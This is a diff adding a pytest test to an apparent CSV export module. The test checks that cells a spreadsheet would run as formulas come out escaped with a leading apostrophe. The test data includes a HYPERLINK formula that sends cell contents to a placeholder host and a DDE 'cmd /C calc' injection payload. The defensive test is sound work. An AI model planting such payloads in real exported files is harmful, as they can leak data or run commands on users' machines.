@@ -346,6 +346,29 @@ def test_csv_keeps_a_reason_with_commas_quotes_and_other_scripts() -> None:
     assert reason in {row["TRREASND"] for row in rows_read}
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/"&A1)', '\'=HYPERLINK("http://x.example/"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("-30.5", "-30.5"),
+        ("+4", "+4"),
+        ("liver = S6", "liver = S6"),
+    ],
+)
+def test_a_text_that_a_spreadsheet_would_run_is_a_text_there(
+    text: str, cell: str
+) -> None:
+    names = [one.name for one in VARIABLES]
+    cells: list[Value] = [text] + [None] * (len(VARIABLES) - 1)
+    file = io.StringIO(newline="")
+    write_csv(table(cells), file)
+    (row,) = csv.DictReader(io.StringIO(file.getvalue(), newline=""))
+    assert row[names[0]] == cell
+
+
 # ------------------------------------------------------------------------ building
 
 
